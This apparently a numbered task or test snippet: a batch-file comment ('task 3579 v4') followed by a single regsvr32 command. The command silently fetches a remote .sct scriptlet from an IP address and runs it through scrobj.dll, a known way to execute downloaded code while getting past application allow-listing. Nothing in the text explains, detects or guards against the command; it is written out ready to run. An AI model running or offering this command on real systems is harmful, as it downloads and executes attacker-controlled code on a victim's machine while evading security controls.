REM task 3579 v4
regsvr32 /s /n /u /i:http://203.0.113.17/file.sct scrobj.dll
